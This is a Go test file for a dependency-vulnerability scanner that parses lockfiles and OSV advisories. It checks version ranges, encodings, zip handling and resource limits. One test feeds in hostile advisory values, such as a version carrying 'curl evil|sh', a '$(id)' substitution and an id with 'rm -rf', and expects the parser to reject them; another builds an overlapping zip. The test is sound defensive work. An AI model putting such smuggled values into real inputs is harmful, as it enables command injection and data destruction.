package deps

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/firebreak-dev/firebreak/internal/redact"
)

// set is advisories given inline, as LoadAdvisories would keep them.
func set(t *testing.T, jsons ...string) *AdvisorySet {
	t.Helper()
	s := &AdvisorySet{}
	for i, j := range jsons {
		as, err := parseAdvisories(fmt.Sprintf("inline-%d.json", i), []byte(j))
		if err != nil {
			t.Fatal(err)
		}
		s.List = append(s.List, as...)
		s.Read += len(as)
	}
	return s
}

func findings(rep *Report) string {
	var out []string
	for _, f := range rep.Findings {
		out = append(out, fmt.Sprintf("%s %s %s fixed=%s ranges=%s patched=%s", f.Package, f.Version, f.Advisory, f.Fixed, strings.Join(f.Ranges, "|"), strings.Join(f.Patched, "|")))
	}
	return strings.Join(out, "\n")
}

func TestGoModIsTheAnswerFromGo117(t *testing.T) {
	adv := advisories(t, "GO-2024-3321")
	sum := "golang.org/x/crypto v0.28.0 h1:old=\ngolang.org/x/crypto v0.28.0/go.mod h1:x=\ngolang.org/x/crypto v0.31.0 h1:new=\n"
	for _, c := range []struct {
		name, mod, want string
	}{
		// go ≥ 1.17: go.mod names every module built; go.sum's v0.28.0 is stale.
		{"pruned", "module m\n\ngo 1.21\n\nrequire golang.org/x/crypto v0.31.0 // indirect\n", ""},
		// Older go lines: the highest version go.sum records is the one built.
		{"unpruned", "module m\n\ngo 1.16\n", ""},
		{"unpruned old", "module m\n\ngo 1.16\n\nrequire golang.org/x/crypto v0.30.0\n", ""},
	} {
		dir := t.TempDir()
		write(t, dir, "go.sum", sum)
		rep := check(t, write(t, dir, "go.mod", c.mod), adv)
		if got := findings(rep); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
	// Without the fixed version in go.sum, the old one is reported.
	dir := t.TempDir()
	write(t, dir, "go.sum", "golang.org/x/crypto v0.28.0 h1:old=\n")
	rep := check(t, write(t, dir, "go.mod", "module m\n\ngo 1.16\n"), adv)
	if got := findings(rep); !strings.HasPrefix(got, "golang.org/x/crypto v0.28.0 GO-2024-3321 fixed=v0.31.0") {
		t.Errorf("go.sum: %q", got)
	}
}

const stdlibAdvisory = `{"id":"GO-2024-2963","modified":"2024-07-02T00:00:00Z","aliases":["CVE-2024-24791"],
 "summary":"Denial of service due to improper 100-continue handling in net/http",
 "affected":[{"package":{"name":"stdlib","ecosystem":"Go"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.21.12"},{"introduced":"1.22.0-0"},{"fixed":"1.22.5"}]}]}]}`

func TestStdlibFromGoAndToolchainLines(t *testing.T) {
	adv := set(t, stdlibAdvisory)
	for _, c := range []struct {
		mod, want string
	}{
		{"module m\ngo 1.22.1\n", "stdlib 1.22.1 GO-2024-2963 fixed=go1.22.5 ranges=< go1.21.12|>= go1.22.0-0, < go1.22.5 patched=go1.21.12|go1.22.5"},
		{"module m\ngo 1.22\n", "stdlib 1.22.0 GO-2024-2963 fixed=go1.22.5"},
		{"module m\ngo 1.22.1\ntoolchain go1.22.5\n", ""},
		{"module m\ngo 1.21.12\n", ""},
		{"module m\ngo 1.20\n", "stdlib 1.20.0 GO-2024-2963 fixed=go1.21.12"},
	} {
		dir := t.TempDir()
		rep := check(t, write(t, dir, "go.mod", c.mod), adv)
		got := findings(rep)
		if c.want == "" && got != "" || c.want != "" && !strings.HasPrefix(got, c.want) {
			t.Errorf("%q: %q, want %q", c.mod, got, c.want)
		}
		if got != "" && !rep.Findings[0].Minimum {
			t.Errorf("%q: the standard library's version is a minimum", c.mod)
		}
	}
}

func TestRequirementsEncodingsAndIncludes(t *testing.T) {
	dir := t.TempDir()
	utf16le := func(s string) string {
		b := []byte{0xFF, 0xFE}
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return string(b)
	}
	for _, c := range []struct {
		file, body, want string
	}{
		{"bom/requirements.txt", "\ufeffrequests==2.30.0\n", "requests==2.30.0"},
		{"utf16/requirements.txt", utf16le("requests==2.30.0\r\nflask==2.0.1\r\n"), "flask==2.0.1 requests==2.30.0"},
		{"eof/requirements.txt", "flask==2.0.1\nrequests==2.30.0 \\", "flask==2.0.1 requests==2.30.0"},
		{"tabs/requirements.txt", "requests==2.30.0\t# pinned\n", "requests==2.30.0"},
		{"dir/requirements/prod.txt", "requests==2.30.0\n", "requests==2.30.0"},
	} {
		lf, err := ReadLockfile(write(t, dir, c.file, c.body))
		if err != nil {
			t.Errorf("%s: %v", c.file, err)
			continue
		}
		var got []string
		for _, d := range lf.Deps {
			got = append(got, d.Name+"=="+d.Version)
		}
		if strings.Join(got, " ") != c.want || len(lf.Unpinned) != 0 {
			t.Errorf("%s: %v %v, want %s", c.file, got, lf.Unpinned, c.want)
		}
	}
	if _, err := ReadLockfile(write(t, dir, "bad/requirements.txt", "requests==2.30.0\xff\n")); err == nil || !strings.Contains(err.Error(), "not UTF-8") {
		t.Errorf("latin-1: %v", err)
	}

	// -rFILE and --requirement=FILE; a finding names the file that pins it.
	inc := write(t, dir, "inc/base.txt", "requests==2.30.0\n")
	write(t, dir, "inc/more.txt", "git+https://deploy:hunter2@git.example.com/lib.git#egg=lib\n")
	top := write(t, dir, "inc/requirements.txt", "-rbase.txt\n--requirement=more.txt\nflask==2.0.1\n")
	rep := check(t, top, advisories(t, "GHSA-j8r2-6x86-q33q"))
	if len(rep.Findings) != 1 || rep.Findings[0].Lockfile != inc {
		t.Fatalf("attributed to %+v, want %s", rep.Findings, inc)
	}
	if len(rep.Unpinned) != 1 || strings.Contains(rep.Unpinned[0], "hunter2") || !strings.Contains(rep.Unpinned[0], "https://***@git.example.com") || redact.Find([]byte(rep.Unpinned[0])) != "" {
		t.Errorf("unpinned: %q", rep.Unpinned)
	}
}

func TestNpmV1AliasAndDeepTree(t *testing.T) {
	dir := t.TempDir()
	rep := check(t, write(t, dir, "package-lock.json", `{"lockfileVersion":1,"dependencies":{
	  "my-lodash":{"version":"npm:lodash@4.17.20"},
	  "@scope/x":{"version":"npm:@scope/y@1.0.0"},
	  "local":{"version":"file:../local"}}}`), advisories(t, "GHSA-35jh-r3h4-6jhm"))
	if got := findings(rep); !strings.HasPrefix(got, "lodash 4.17.20 GHSA-35jh-r3h4-6jhm fixed=4.17.21") {
		t.Fatalf("alias: %q", got)
	}
	var names []string
	for _, d := range rep.Lockfiles[0].Deps {
		names = append(names, d.Name+"@"+d.Version)
	}
	if strings.Join(names, " ") != "@scope/y@1.0.0 lodash@4.17.20" {
		t.Errorf("deps: %v", names)
	}
	// 65 levels of nesting are refused, with where.
	deep := strings.Repeat(`{"version":"1.0.0","dependencies":{"a":`, 66) + `{"version":"1.0.0"}` + strings.Repeat("}}", 66)
	if _, err := ReadLockfile(write(t, dir, "deep/package-lock.json", `{"lockfileVersion":1,"dependencies":{"a":`+deep+`}}`)); err == nil || !strings.Contains(err.Error(), "deeper than 64") {
		t.Errorf("deep: %v", err)
	}
}

func TestRangesFixesAndVersionLists(t *testing.T) {
	lock := func(eco, name, ver string) []*Lockfile {
		return []*Lockfile{{Path: "L", Deps: []Dep{{Ecosystem: eco, Name: name, Version: ver}}}}
	}
	for _, c := range []struct {
		name, adv, eco, pkg, ver, want string
	}{
		{"a GIT fix is a commit, not the fixed version",
			`{"id":"A","affected":[{"package":{"ecosystem":"crates.io","name":"c"},"ranges":[{"type":"GIT","repo":"https://x","events":[{"introduced":"0"},{"fixed":"9f8e7d6c"}]},{"type":"SEMVER","events":[{"introduced":"0"}]}]}]}`,
			CratesIO, "c", "1.0.0", "c 1.0.0 A fixed= ranges=every version patched="},
		{"two intervals, each with its own fix",
			`{"id":"B","affected":[{"package":{"ecosystem":"npm","name":"n"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.2.3"},{"introduced":"2.0.0"},{"fixed":"2.0.4"}]}]}]}`,
			NPM, "n", "2.0.1", "n 2.0.1 B fixed=2.0.4 ranges=< 1.2.3|>= 2.0.0, < 2.0.4 patched=1.2.3|2.0.4"},
		{"a limit bounds, it does not fix",
			`{"id":"C","affected":[{"package":{"ecosystem":"npm","name":"n"},"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"limit":"3.0.0"}]}]}]}`,
			NPM, "n", "2.0.0", "n 2.0.0 C fixed= ranges=>= 1.0.0, < 3.0.0 patched="},
		{"last_affected",
			`{"id":"D","affected":[{"package":{"ecosystem":"npm","name":"n"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"last_affected":"1.4.2"}]}]}]}`,
			NPM, "n", "1.4.2", "n 1.4.2 D fixed= ranges=<= 1.4.2 patched="},
		{"PyPI versions compare as PEP 440 does",
			`{"id":"E","affected":[{"package":{"ecosystem":"PyPI","name":"Py_Pkg"},"versions":["1.0","1.1"]}]}`,
			PyPI, "py-pkg", "1.0.0", "py-pkg 1.0.0 E fixed= ranges== 1.0|= 1.1 patched=|"},
		{"one finding for an advisory naming the package twice",
			`{"id":"F","affected":[{"package":{"ecosystem":"Go","name":"example.com/m"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.2.0"}]}]},{"package":{"ecosystem":"Go","name":"example.com/m"},"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"fixed":"1.1.5"}]}]}]}`,
			Go, "example.com/m", "v1.1.0", "example.com/m v1.1.0 F fixed=v1.1.5 ranges=< v1.2.0|>= v1.0.0, < v1.1.5 patched=v1.2.0|v1.1.5"},
	} {
		rep := Check(lock(c.eco, c.pkg, c.ver), set(t, c.adv))
		if got := findings(rep); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
	}
}

func TestUnreadEntriesAreNamedNotFatal(t *testing.T) {
	dir := t.TempDir()
	b, _ := os.ReadFile(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
	write(t, dir, "db/good.json", string(b))
	write(t, dir, "db/broken.json", "\n\n{\"id\": \"X\",\n  \"affected\": 7}")
	write(t, dir, "db/gitonly.json", `{"id":"OSV-C","affected":[{"ranges":[{"type":"GIT","repo":"https://x","events":[{"introduced":"0"}]}]}]}`)
	// The directory is named through a link: it is followed.
	os.Symlink(filepath.Join(dir, "db"), filepath.Join(dir, "link"))
	lock := write(t, dir, "p/Cargo.lock", cargoAffected)
	rep, err := Run([]string{lock}, []string{filepath.Join(dir, "link")})
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Affected() || rep.Complete() || rep.UnreadCount != 1 || !strings.Contains(rep.Unread[0], filepath.Join(dir, "link", "broken.json")+":4:") {
		t.Fatalf("affected %v, unread %d %q", rep.Affected(), rep.UnreadCount, rep.Unread)
	}
	if !strings.Contains(strings.Join(rep.Unchecked, "\n"), "OSV-C: names no package") {
		t.Errorf("unchecked: %q", rep.Unchecked)
	}
	// A broken file named on its own is an error.
	if _, err := Run([]string{lock}, []string{filepath.Join(dir, "db", "broken.json")}); err == nil {
		t.Error("a broken advisory named on its own was read")
	}
}

func TestExportKeepsOnlyWhatIsPinned(t *testing.T) {
	dir := t.TempDir()
	zp := filepath.Join(dir, "all.zip")
	f, _ := os.Create(zp)
	zw := zip.NewWriter(f)
	for i := range 500 {
		w, _ := zw.Create(fmt.Sprintf("X-%d.json", i))
		fmt.Fprintf(w, `{"id":"X-%d","details":%q,"affected":[{"package":{"ecosystem":"crates.io","name":"other-%d"},"versions":["1.0.0"]}]}`, i, strings.Repeat("d", 10000), i)
	}
	b, _ := os.ReadFile(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
	w, _ := zw.Create("RUSTSEC-2022-0093.json")
	w.Write(b)
	w, _ = zw.Create("bad.json")
	w.Write([]byte("{"))
	zw.Close()
	f.Close()
	lf, err := ReadLockfile(write(t, dir, "p/Cargo.lock", cargoAffected))
	if err != nil {
		t.Fatal(err)
	}
	s, err := LoadAdvisories([]string{zp}, Names([]*Lockfile{lf}))
	if err != nil {
		t.Fatal(err)
	}
	if s.Read != 501 || len(s.List) != 1 || s.List[0].ID != "RUSTSEC-2022-0093" || s.UnreadCount != 1 || !strings.Contains(s.Unread[0], "all.zip!bad.json") {
		t.Fatalf("read %d kept %d unread %q", s.Read, len(s.List), s.Unread)
	}
}

func TestFindingsAreCapped(t *testing.T) {
	s := &AdvisorySet{}
	for i := range maxFindings + 5 {
		s.List = append(s.List, &Advisory{ID: fmt.Sprintf("A-%d", i), Affected: []Affected{{Package: Package{Ecosystem: NPM, Name: "n"}, Versions: []string{"1.0.0"}}}})
	}
	rep := Check([]*Lockfile{{Path: "L", Deps: []Dep{{Ecosystem: NPM, Name: "n", Version: "1.0.0"}}}}, s)
	if len(rep.Findings) != maxFindings || rep.FindingsTotal != maxFindings+5 || !rep.Affected() {
		t.Fatalf("%d listed of %d", len(rep.Findings), rep.FindingsTotal)
	}
}

func TestJSONErrorLinesCountLeadingBlankLines(t *testing.T) {
	_, err := parseAdvisories("a.json", []byte("\n\n\n{\"id\": 7}"))
	if err == nil || !strings.Contains(err.Error(), "a.json:4:") {
		t.Fatalf("%v", err)
	}
}

func FuzzPackageLock(f *testing.F) {
	f.Add([]byte(`{"lockfileVersion":3,"packages":{"":{},"node_modules/a":{"version":"1.0.0"},"node_modules/b":{"name":"c","version":"2"}}}`))
	f.Add([]byte(`{"lockfileVersion":1,"dependencies":{"x":{"version":"npm:@s/y@1.0.0","dependencies":{"z":{"version":"file:../z"}}}}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		lf, err := readPackageLock("package-lock.json", b)
		if err != nil {
			return
		}
		for _, d := range lf.Deps {
			if d.Name == "" || d.Version == "" || d.Ecosystem != NPM {
				t.Fatalf("%q -> %+v", b, d)
			}
		}
	})
}

func FuzzGoMod(f *testing.F) {
	f.Add([]byte("module m\ngo 1.22.1\ntoolchain go1.23.0\nrequire golang.org/x/crypto v0.30.0\n"))
	f.Add([]byte("module m\ngo 1.16\nrequire a.b/c v1.0.0 // indirect\nreplace a.b/c => ../c\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		lf, err := readGoMod(filepath.Join(t.TempDir(), "go.mod"), b)
		if err != nil {
			return
		}
		for _, d := range lf.Deps {
			if d.Name == "" || d.Version == "" {
				t.Fatalf("%q -> %+v", b, d)
			}
			if d.Name == "stdlib" && !d.Minimum {
				t.Fatalf("stdlib not flagged as a minimum: %+v", d)
			}
		}
	})
}

// TestAttackerRound2 holds the answers to the second attacker round: each
// case once gave a false "not affected", or read an advisory differently
// from other OSV tools.
func TestAttackerRound2(t *testing.T) {
	dir := t.TempDir()
	lock := write(t, dir, "p/Cargo.lock", cargoAffected)
	rustsec, _ := os.ReadFile(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
	advisory := func(name, events string) string {
		return write(t, dir, "adv/"+name+".json", `{"id":"`+name+`","affected":[{"package":{"ecosystem":"crates.io","name":"ed25519-dalek"},"ranges":[{"type":"ECOSYSTEM","events":[`+events+`]}]}]}`)
	}

	// A link to an advisory in the directory is read; a pipe is unread.
	os.MkdirAll(filepath.Join(dir, "db"), 0o755)
	os.Symlink(filepath.Join("..", "..", "testdata", "RUSTSEC-2022-0093.json"), filepath.Join(dir, "db", "linked.json"))
	abs, _ := filepath.Abs(filepath.Join("testdata", "RUSTSEC-2022-0093.json"))
	os.Remove(filepath.Join(dir, "db", "linked.json"))
	os.Symlink(abs, filepath.Join(dir, "db", "linked.json"))
	if rep, err := Run([]string{lock}, []string{filepath.Join(dir, "db")}); err != nil || !rep.Affected() {
		t.Errorf("a linked advisory: %v %v", rep, err)
	}
	if err := mkfifo(filepath.Join(dir, "db", "pipe.json")); err == nil {
		rep, err := Run([]string{lock}, []string{filepath.Join(dir, "db")})
		if err != nil || rep.UnreadCount != 1 || rep.Complete() {
			t.Errorf("a pipe named .json: %v %+v", err, rep)
		}
	}

	// Versions that are not versions, ids that are not ids, keys in the
	// wrong case, ranges without introduced: refused, named.
	for _, c := range []struct{ body, want string }{
		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"9.9.9;curl evil|sh"}]}]}]}`, "is not a version"},
		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"versions":["1.0.0'$(id)'"]}]}`, "is not a version"},
		{`{"id":"R; rm -rf","affected":[]}`, "is not an OSV id"},
		{`{"id":"R","affected":[{"package":{"ecosystem":"crates.io","name":"x"},"ranges":[{"type":"SEMVER","events":[{"limit":"2.0.0"}]}]}]}`, "no introduced event"},
		{strings.Replace(string(rustsec), `"affected"`, `"AFFECTED": [], "affected"`, 1), `the key "AFFECTED"`},
		{strings.Replace(string(rustsec), `"id"`, `"withdrawn": "2020-01-01T00:00:00Z", "ID"`, 1), `the key "ID"`},
		{`{"id":"R"} {"id":"S"}`, "after top-level value"},
	} {
		if _, err := parseAdvisories("a.json", []byte(c.body)); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%.60s: %v, want %q", c.body, err, c.want)
		}
	}
	// Aliases that are not ids are dropped, not recorded.
	as, err := parseAdvisories("a.json", []byte(`{"id":"R","aliases":["CVE-2026-1","x y\u001b"]}`))
	if err != nil || strings.Join(as[0].Aliases, ",") != "CVE-2026-1" {
		t.Errorf("aliases: %v %v", as, err)
	}

	// What the check cannot tell leaves it without an answer.
	for _, c := range []struct{ name, lockfile, adv string }{
		{"a version of no ecosystem", lock, advisory("GARBAGE", `{"introduced":"0"},{"fixed":"garbage!!"}`)},
		{"GIT ranges only", lock, write(t, dir, "adv/git.json", `{"id":"GIT","affected":[{"package":{"ecosystem":"crates.io","name":"ed25519-dalek"},"ranges":[{"type":"GIT","repo":"https://x","events":[{"introduced":"0"},{"fixed":"abc123"}]}]}]}`)},
		{"an unpinned requirement", write(t, dir, "u/requirements.txt", "Flask>=1.0\n"), write(t, dir, "adv/flask.json", `{"id":"FLASK","affected":[{"package":{"ecosystem":"PyPI","name":"flask"},"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2.0"}]}]}]}`)},
	} {
		rep, err := Run([]string{c.lockfile}, []string{c.adv})
		if err != nil || rep.Affected() || rep.Complete() || rep.UndecidedCount != 1 {
			t.Errorf("%s: %v %+v", c.name, err, rep)
		}
	}

	// Go pre-releases are compared as the Go database writes them.
	for mod, want := range map[string]string{"module m\ngo 1.21rc1\n": "1.21.0-rc.1", "module m\ngo 1.21rc1\ntoolchain go1.21rc2\n": "1.21.0-rc.2", "module m\ngo 1.21.3\ntoolchain go1.21.0\n": "1.21.3"} {
		f, err := ReadLockfile(write(t, t.TempDir(), "go.mod", mod))
		if err != nil || len(f.Deps) < 1 || f.Deps[0].Name != "stdlib" || f.Deps[0].Version != want {
			t.Errorf("%q: %+v %v, want stdlib %s", mod, f, err, want)
		}
	}
	rc := write(t, dir, "rc/go.mod", "module m\ngo 1.21rc1\n")
	adv := write(t, dir, "adv/go-rc.json", `{"id":"GO-X","affected":[{"package":{"name":"stdlib","ecosystem":"Go"},"ranges":[{"type":"SEMVER","events":[{"introduced":"0"},{"fixed":"1.21.0-rc.2"}]}]}]}`)
	if rep, err := Run([]string{rc}, []string{adv}); err != nil || !rep.Affected() {
		t.Errorf("go1.21rc1 against a fix in rc.2: %v %v", rep, err)
	}

	// Lockfiles firebreak does not read are refused, not read as empty.
	for name, body := range map[string]string{"a/package-lock.json": "{}", "b/package-lock.json": `{"lockfileVersion":4}`, "c/requirements.txt": "r\x00e\x00q\x00=\x00=\x001\x00"} {
		if _, err := ReadLockfile(write(t, dir, name, body)); err == nil {
			t.Errorf("%s: read", name)
		}
	}
}

func TestOverlappingZipIsRefused(t *testing.T) {
	dir := t.TempDir()
	// Two central directory entries pointing at one local entry.
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create("a.json")
	w.Write([]byte(`{"id":"A"}`))
	zw.Close()
	b := buf.Bytes()
	eocd := bytes.LastIndex(b, []byte("PK\x05\x06"))
	cd := bytes.Index(b, []byte("PK\x01\x02"))
	entry := append([]byte{}, b[cd:eocd]...)
	// The copy is named b.json (same length), at the same data offset.
	copyEntry := bytes.Replace(entry, []byte("a.json"), []byte("b.json"), 1)
	out := append(append(append([]byte{}, b[:eocd]...), copyEntry...), b[eocd:]...)
	end := len(out) - 22
	out[end+8], out[end+10] = 2, 2 // entries on this disk, entries in all
	cdSize := uint32(len(entry) * 2)
	out[end+12], out[end+13], out[end+14], out[end+15] = byte(cdSize), byte(cdSize>>8), byte(cdSize>>16), byte(cdSize>>24)
	zp := filepath.Join(dir, "bomb.zip")
	os.WriteFile(zp, out, 0o644)
	if _, err := LoadAdvisories([]string{zp}, nil); err == nil || !strings.Contains(err.Error(), "share their bytes") {
		t.Fatalf("%v", err)
	}
}

func TestKeptMemoryBudget(t *testing.T) {
	defer func(old int64) { maxKept = old }(maxKept)
	maxKept = 4 << 10
	dir := t.TempDir()
	var list []string
	for i := range 50 {
		list = append(list, fmt.Sprintf(`{"id":"A-%d","affected":[{"package":{"ecosystem":"npm","name":"n"},"versions":["1.0.0"]}]}`, i))
	}
	p := write(t, dir, "many.json", "["+strings.Join(list, ",")+"]")
	lf := &Lockfile{Path: "L", Deps: []Dep{{Ecosystem: NPM, Name: "n", Version: "1.0.0"}}}
	if _, err := LoadAdvisories([]string{p}, Names([]*Lockfile{lf})); !errors.Is(err, errKeptBudget) {
		t.Fatalf("%v", err)
	}
	// Advisories for other packages cost nothing.
	other := &Lockfile{Path: "L", Deps: []Dep{{Ecosystem: NPM, Name: "m", Version: "1.0.0"}}}
	if s, err := LoadAdvisories([]string{p}, Names([]*Lockfile{other})); err != nil || s.Read != 50 || len(s.List) != 0 {
		t.Fatalf("%v %v", s, err)
	}
}
